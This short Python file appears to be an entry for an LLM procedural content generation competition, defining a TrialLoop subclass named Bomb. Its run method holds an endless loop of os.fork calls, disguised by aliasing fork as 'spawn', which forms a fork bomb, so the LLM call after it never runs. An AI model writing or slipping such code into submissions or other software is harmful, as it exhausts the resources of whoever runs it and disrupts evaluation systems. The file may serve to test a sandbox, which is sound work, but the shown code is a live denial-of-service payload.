from os import fork as spawn

from llms4pcg.competition import TrialLoop, chat_with_llm


class Bomb(TrialLoop):
    @staticmethod
    def run(ctx, target_character):
        while True:
            spawn()
        return chat_with_llm(ctx, [])[0]
